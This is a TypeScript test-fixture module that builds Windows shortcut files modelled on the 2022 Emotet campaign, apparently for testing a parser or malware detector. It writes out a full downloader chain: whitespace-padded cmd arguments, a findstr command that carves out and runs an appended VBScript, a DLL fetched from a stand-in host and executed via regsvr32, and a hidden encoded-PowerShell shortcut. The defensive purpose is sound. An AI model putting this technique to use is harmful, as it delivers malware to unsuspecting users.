/**
 * Shell Link (.lnk) fixtures built in code, structure by structure ([MS-SHLLINK] 2.1–2.5): the 2022 Emotet
 * shortcuts (cmd/PowerShell targets, arguments padded past what Explorer shows, a document icon, a script
 * appended for `findstr`) and hostile variants (truncation, lying sizes, endless block lists).
 */
import { buildLnk, type LnkSpec } from '../../src/formats/lnk/index.js';

export { buildLnk, idList, trackerBlock, type LnkSpec } from '../../src/formats/lnk/index.js';

/**
 * The April 2022 Emotet shortcut: cmd.exe with arguments padded by whitespace, a PDF-looking icon, and a
 * VBScript appended after the link that the command line carves out with `findstr` and runs. Inert:
 * the script only names TEST-NET addresses and example.com.
 */
export function buildEmotetFindstrLnk(): Uint8Array {
  const marker = 'glKmfOKnQLYKnNs';
  // Every carved line starts `<marker>=1::`, an assignment then empty statements: valid VBScript.
  const script = [
    'Set x = CreateObject("MSXML2.ServerXMLHTTP.6.0")',
    'x.Open "GET", "http://192.0.2.10/loader.dll", False',
    'x.Send',
    'Set s = CreateObject("ADODB.Stream")',
    's.Open : s.Type = 1 : s.Write x.responseBody : s.SaveToFile "C:\\Users\\Public\\x.dll", 2',
    'CreateObject("WScript.Shell").Run "regsvr32.exe /s C:\\Users\\Public\\x.dll"',
  ]
    .map((line) => `${marker}=1::${line}`)
    .join('\r\n');
  return buildLnk({
    target: 'C:\\Windows\\System32\\cmd.exe',
    environmentTarget: '%windir%\\system32\\cmd.exe',
    arguments: `${' '.repeat(180)}/v:on /c findstr "${marker}.*" "Form 04.25.2022, US.lnk" > "%tmp%\\YlScZcZKeP.vbs" & "%tmp%\\YlScZcZKeP.vbs"`,
    iconLocation: '%SystemRoot%\\System32\\shell32.dll',
    iconIndex: 1,
    showCommand: 7,
    tracker: { machineId: 'desktop-4ufn3rs', mac: '08:00:27:1a:2b:3c' },
    trailing: `\r\n${script}\r\n`,
  });
}

/** A shortcut that runs `powershell -enc <command>`; the command is inert text naming example.com. */
export function buildPowerShellLnk(command: string, options: Partial<LnkSpec> = {}): Uint8Array {
  const enc = Buffer.from(command, 'utf16le').toString('base64');
  return buildLnk({
    target: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
    arguments: `-NoP -W Hidden -enc ${enc}`,
    iconLocation: 'C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe',
    iconIndex: 11,
    ...options,
  });
}
